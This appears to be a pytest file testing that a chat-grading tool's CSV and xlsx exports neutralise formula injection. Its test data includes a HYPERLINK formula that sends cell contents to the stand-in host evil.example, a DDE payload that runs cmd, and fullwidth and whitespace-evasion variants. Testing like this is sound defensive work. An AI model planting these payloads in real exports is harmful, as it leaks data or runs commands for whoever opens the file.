"""Formula injection: every CSV and xlsx writer neutralises text a spreadsheet would evaluate."""
import csv
import re
import zipfile

import pytest

from grader.pipeline import Grader
from grader.privacy import load_masker
from grader.report import build, write_workbook
from grader.scorecard.export import ScorecardFiles
from grader.spreadsheet import csv_safe, is_risky
from grader.store import Store
from tests.builders import transcript

# (text written into a nickname / agent / shop / id, is it neutralised)
CASES = [
    pytest.param('=HYPERLINK("http://evil.example/?x="&A1,"点我领券")', True, id="hyperlink-formula"),
    pytest.param("=1+1", True, id="equals"),
    pytest.param("+8613800138000", True, id="plus-phone"),
    pytest.param("-2+3+cmd|' /C calc'!A0", True, id="minus-dde"),
    pytest.param("@SUM(1,1)", True, id="at-sign"),
    pytest.param("\t=1+1", True, id="leading-tab"),
    pytest.param("\r=1+1", True, id="leading-cr"),
    pytest.param("小美=客服", False, id="equals-inside-stays"),
    pytest.param("tb-123456", False, id="minus-inside-stays"),
    pytest.param("旺旺@小店", False, id="at-inside-stays"),
    pytest.param("＝1+1", True, id="fullwidth-equals"),
    pytest.param("＋8613800138000", True, id="fullwidth-plus"),
    pytest.param("－2+3", True, id="fullwidth-minus"),
    pytest.param("＠SUM(1,1)", True, id="fullwidth-at"),
    pytest.param(" =1+1", True, id="space-before-equals"),
    pytest.param("\u3000=HYPERLINK(\"http://evil.example\")", True, id="ideographic-space-before-equals"),
    pytest.param(" \u3000 ＝1+1", True, id="mixed-blanks-before-fullwidth-equals"),
    pytest.param(" 小美", False, id="leading-space-before-text-stays"),
    pytest.param("小美＝客服", False, id="fullwidth-equals-inside-stays"),
    pytest.param("=\x00HYPER\x1bLINK()", True, id="control-chars-dropped-then-quoted"),
]


def shown(payload: str) -> str:
    """The text a spreadsheet cell keeps: control characters (which xlsx cannot hold) dropped."""
    import re
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", "", payload)


@pytest.mark.parametrize("value, risky", [
    pytest.param(-5, False, id="negative-int-stays-number"),
    pytest.param(-2.5, False, id="negative-float-stays-number"),
    pytest.param(0, False, id="zero"),
    pytest.param(None, False, id="none"),
    pytest.param("-5", True, id="negative-as-text-is-quoted"),
])
def test_numbers_written_as_numbers_stay_numbers(value, risky):
    assert is_risky(value) is risky
    assert csv_safe(value) == ("'" + value if risky else value)


def graded(payload: str, grader: Grader):
    t = transcript("c 10:00:00 有优惠吗", "a 10:00:05 您好，现在满300减30哦", id=payload or "x")
    t = t.model_copy(update=dict(customer=payload, shop=payload))
    card = grader.grade(t, scenario="presale")
    return t, card.model_copy(update=dict(agent=payload))


@pytest.mark.parametrize("payload, risky", CASES)
def test_scorecards_csv(tmp_path, grader, payload, risky):
    _, card = graded(payload, grader)
    with ScorecardFiles(tmp_path, grader.rubric, grader.tz, masker=load_masker(enabled=False)) as files:  # injection only
        files.write([card])
    with open(tmp_path / "scorecards.csv", encoding="utf-8-sig", newline="") as f:
        header, row = list(csv.reader(f))
    cells = dict(zip(header, row))
    expected = "'" + shown(payload) if risky else shown(payload)
    assert [cells[k] for k in ("会话ID", "店铺", "客服", "顾客")] == [expected] * 4
    assert cells["总分"] == str(card.total)  # numbers untouched


def sheet_xml(path, name: str) -> str:
    with zipfile.ZipFile(path) as z:
        book = z.read("xl/workbook.xml").decode()
        sheets = re.findall(r'<sheet [^>]*name="([^"]+)"', book)
        return z.read(f"xl/worksheets/sheet{sheets.index(name) + 1}.xml").decode()


@pytest.mark.parametrize("payload, risky", CASES)
def test_report_workbook(tmp_path, grader, payload, risky, db_url):
    import openpyxl

    store = Store(db_url)
    if "://" in db_url:  # PostgreSQL cannot hold a NUL: there only the reader's cleaned text gets in
        payload = shown(payload)
    store.save([graded(payload, grader)])
    data = build(store, "2026-11-22", "2026-11-22", "2026-11-22", masker=load_masker(enabled=False))
    path = write_workbook(data, tmp_path / "r.xlsx")
    for name in ("客服日汇总", "评分明细", "客服排名"):
        assert "<f>" not in sheet_xml(path, name), f"a formula in sheet {name}"
    book = openpyxl.load_workbook(path)
    sheet = book["评分明细"]
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2])}
    for column in ("客服", "会话ID"):
        cell = row[column]
        assert cell.value == shown(payload).replace("\r", "\n")  # the visible text is kept (XML reads CR as LF)
        assert cell.data_type == "s"
        assert cell.quotePrefix is risky
    assert row["最终总分"].data_type == "n"
    ranking = book["客服排名"]
    assert ranking.cell(2, 2).value == shown(payload).replace("\r", "\n") and ranking.cell(2, 2).quotePrefix is risky
    assert not list(tmp_path.glob(".*.tmp")), "the workbook is written under a temporary name, then renamed"


def test_every_spreadsheet_writer_uses_the_shared_rule():
    """A module of grader/ that writes CSV or xlsx must go through grader.spreadsheet."""
    from pathlib import Path

    import grader
    root = Path(grader.__file__).parent
    writers = [p for p in root.rglob("*.py") if p.name != "spreadsheet.py"
               and any(w in p.read_text(encoding="utf-8") for w in ("csv.writer(", "DictWriter(", ".to_excel(",
                                                                    ".to_csv(", "Workbook("))]
    assert writers, "the scan found no writer at all: it is looking in the wrong place"
    assert [p.name for p in writers if "grader.spreadsheet" not in p.read_text(encoding="utf-8")] == []
